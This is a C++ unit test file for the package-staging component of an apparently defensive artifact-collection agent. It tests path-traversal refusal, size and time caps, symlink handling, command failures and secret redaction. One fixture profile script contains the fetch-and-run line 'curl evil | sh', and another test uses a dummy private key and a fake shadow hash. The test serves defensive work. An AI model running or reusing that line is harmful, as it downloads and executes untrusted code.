#include "agent/collect/package_staging.h"

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>

#include "common/files.h"

namespace quell::agent::collect {
namespace {

namespace fs = std::filesystem;

class PackageStagingTest : public ::testing::Test {
 protected:
  void SetUp() override {
    root_ = fs::temp_directory_path() /
            ("quell-staging-" + std::to_string(::getpid()) + "-" +
             ::testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::remove_all(root_);
    fs::create_directories(root_ / "src");
  }
  void TearDown() override { fs::remove_all(root_); }

  std::unique_ptr<PackageStaging> Make(CollectLimits limits = {}) {
    auto s = PackageStaging::Create(root_ / "pkg", limits, stop_.get_token(), clock_);
    EXPECT_TRUE(s.ok()) << s.status().ToString();
    return std::move(*s);
  }
  std::string Staged(const std::string& rel) {
    auto text = ReadFile((root_ / "pkg" / rel).string());
    return text.ok() ? *text : "<missing>";
  }
  std::string Source(const std::string& name, const std::string& text) {
    std::string path = (root_ / "src" / name).string();
    EXPECT_TRUE(WriteFileAtomic(path, text, 0644).ok());
    return path;
  }

  fs::path root_;
  std::stop_source stop_;
  FakeClock clock_;
};

TEST_F(PackageStagingTest, TextFilesAndCommandsLandUnderTheirTopic) {
  auto s = Make();
  EXPECT_TRUE(s->AddText("Processes", "tree.txt", "1 init\n"));
  EXPECT_TRUE(s->AddFileCopy("Autoruns", "etc/cron.d/job", Source("job", "* * * * * root /x\n")));
  EXPECT_TRUE(s->AddCommandOutput("System Information", "echo.txt", {"echo", "hello"}));
  EXPECT_EQ(Staged("Processes/tree.txt"), "1 init\n");
  EXPECT_EQ(Staged("Autoruns/etc/cron.d/job"), "* * * * * root /x\n");
  EXPECT_EQ(Staged("System Information/echo.txt"), "hello\n");
  ASSERT_EQ(s->artifacts().size(), 3u);
  EXPECT_EQ(s->artifacts()[2].source, "echo hello");
  EXPECT_EQ(s->total_bytes(), 7u + 18u + 6u);
  EXPECT_TRUE(s->failures().empty());
}

TEST_F(PackageStagingTest, NamesCannotEscapeTheStagingDirectory) {
  auto s = Make();
  EXPECT_FALSE(s->AddText("Autoruns", "../../escaped", "x"));
  EXPECT_FALSE(s->AddText("..", "escaped", "x"));
  EXPECT_FALSE(s->AddText("Autoruns", "a//b", "x"));
  EXPECT_FALSE(fs::exists(root_ / "escaped"));
  EXPECT_EQ(s->failures().size(), 3u);
}

TEST_F(PackageStagingTest, EachArtifactIsCutAtItsCapAndMarkedTruncated) {
  auto s = Make({.max_artifact_bytes = 10, .max_total_bytes = 1000});
  EXPECT_TRUE(s->AddText("T", "long.txt", std::string(25, 'a')));
  EXPECT_TRUE(s->AddFileCopy("T", "copy", Source("big", std::string(100, 'b'))));
  EXPECT_TRUE(s->AddCommandOutput("T", "seq.txt", {"seq", "1", "100000"}));
  EXPECT_EQ(Staged("T/long.txt"), std::string(10, 'a'));
  EXPECT_EQ(Staged("T/copy"), std::string(10, 'b'));
  EXPECT_EQ(Staged("T/seq.txt").size(), 10u);  // the kernel stopped the writer at the cap
  for (const StagedArtifact& a : s->artifacts()) EXPECT_TRUE(a.truncated) << a.name;
  EXPECT_FALSE(s->Exhausted());  // the total is not reached
}

TEST_F(PackageStagingTest, TheTotalCapEndsCollection) {
  auto s = Make({.max_artifact_bytes = 100, .max_total_bytes = 150});
  EXPECT_TRUE(s->AddText("T", "a", std::string(100, 'a')));
  EXPECT_TRUE(s->AddText("T", "b", std::string(100, 'b')));
  EXPECT_EQ(Staged("T/b").size(), 50u);
  EXPECT_TRUE(s->Exhausted());
  EXPECT_EQ(s->ExhaustedReason(), "size limit");
  EXPECT_FALSE(s->AddText("T", "c", "c"));
  EXPECT_EQ(s->total_bytes(), 150u);
}

TEST_F(PackageStagingTest, TheTimeLimitAndACancelEndCollection) {
  auto s = Make({.time_limit = std::chrono::seconds(60)});
  clock_.Advance(59'000);
  EXPECT_FALSE(s->Exhausted());
  clock_.Advance(1'000);
  EXPECT_EQ(s->ExhaustedReason(), "time limit");
  auto t = Make();
  stop_.request_stop();
  EXPECT_EQ(t->ExhaustedReason(), "cancelled");
  EXPECT_FALSE(t->AddText("T", "x", "x"));
}

TEST_F(PackageStagingTest, SymlinksFifosAndMissingFilesAreRefusedWithAReason) {
  auto s = Make();
  const std::string target = Source("real", "data");
  fs::create_symlink(target, root_ / "src" / "link");
  ASSERT_EQ(::mkfifo((root_ / "src" / "fifo").c_str(), 0600), 0);
  EXPECT_FALSE(s->AddFileCopy("T", "link", (root_ / "src" / "link").string()));
  EXPECT_FALSE(s->AddFileCopy("T", "fifo", (root_ / "src" / "fifo").string()));
  EXPECT_FALSE(s->AddFileCopy("T", "gone", (root_ / "src" / "gone").string()));
  ASSERT_EQ(s->failures().size(), 3u);
  EXPECT_EQ(s->failures()[0].reason, "is a symbolic link (not followed)");
  EXPECT_EQ(s->failures()[1].reason, "is not a regular file");
  EXPECT_EQ(s->failures()[2].reason, "No such file or directory");
  EXPECT_TRUE(s->artifacts().empty());
}

TEST_F(PackageStagingTest, SecretsAreRemovedAndOnlyThem) {
  auto s = Make();
  const std::string key =
      "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE "
      "KEY-----\n";
  const std::string hash = "root:$6$Zq1bJ9xk$kC5oR3Xb0yQ1m2n3o4p5q6r7s8t9u0v:19000:0:99999:7:::\n";
  EXPECT_FALSE(s->AddFileCopy("Users and Groups", "shadow", Source("shadow", hash)));
  // A key pasted into a profile script: the script is still collected, the key is not.
  EXPECT_TRUE(s->AddFileCopy("Autoruns", "profile.sh",
                             Source("profile.sh", "export A=1\n" + key + "curl evil | sh\n")));
  EXPECT_TRUE(s->AddText("Security logs", "auth.log", "sshd: accepted\n" + hash + "sudo: ok\n"));
  EXPECT_TRUE(s->AddCommandOutput("T", "cat.txt", {"cat", Source("copy-of-key", key)}));
  EXPECT_TRUE(s->AddJson("Processes", "p.json", {{"args", {"sleep", key}}, {"pid", 7}}));

  EXPECT_EQ(Staged("Autoruns/profile.sh"),
            "export A=1\n[removed by Quell: a private key]\ncurl evil | sh\n");
  EXPECT_EQ(Staged("Security logs/auth.log"),
            "sshd: accepted\n[removed by Quell: a line holding a password hash]\nsudo: ok\n");
  EXPECT_EQ(Staged("T/cat.txt"), "[removed by Quell: a private key]\n");
  auto json = nlohmann::json::parse(Staged("Processes/p.json"));
  EXPECT_EQ(json["args"][1], "[removed by Quell: a private key]");
  EXPECT_EQ(json["pid"], 7);
  for (const StagedArtifact& a : s->artifacts()) EXPECT_EQ(a.secrets_removed, 1u) << a.name;
  EXPECT_FALSE(fs::exists(root_ / "pkg" / "Users and Groups" / "shadow"));
  ASSERT_EQ(s->failures().size(), 1u);
  EXPECT_EQ(s->failures()[0].reason, "not collected: password hashes are never collected");
}

TEST_F(PackageStagingTest, FailingMissingAndHangingCommandsAreRecorded) {
  auto s = Make({.command_timeout = std::chrono::milliseconds(300)});
  EXPECT_FALSE(s->AddCommandOutput("T", "none.txt", {"quell-no-such-program"}));
  EXPECT_FALSE(s->AddCommandOutput("T", "false.txt", {"sh", "-c", "echo oops >&2; exit 3"}));
  // Output before the failure is kept.
  EXPECT_TRUE(s->AddCommandOutput("T", "partial.txt", {"sh", "-c", "echo part; exit 1"}));
  EXPECT_TRUE(s->AddCommandOutput("T", "slow.txt", {"sh", "-c", "echo started; exec sleep 30"}));
  ASSERT_EQ(s->failures().size(), 4u);
  EXPECT_EQ(s->failures()[0].reason, "'quell-no-such-program' is not installed");
  EXPECT_EQ(s->failures()[1].reason, "exited with status 3: oops");
  EXPECT_EQ(s->failures()[2].reason, "exited with status 1");
  EXPECT_NE(s->failures()[3].reason.find("timed out"), std::string::npos);
  EXPECT_EQ(Staged("T/partial.txt"), "part\n");
  EXPECT_EQ(Staged("T/slow.txt"), "started\n");
  EXPECT_TRUE(s->artifacts().back().truncated);
}

TEST_F(PackageStagingTest, CreateClearsWhatAnInterruptedRunLeft) {
  fs::create_directories(root_ / "pkg" / "Old");
  ASSERT_TRUE(WriteFileAtomic((root_ / "pkg" / "Old" / "stale").string(), "x").ok());
  auto s = Make();
  EXPECT_FALSE(fs::exists(root_ / "pkg" / "Old"));
}

}  // namespace
}  // namespace quell::agent::collect
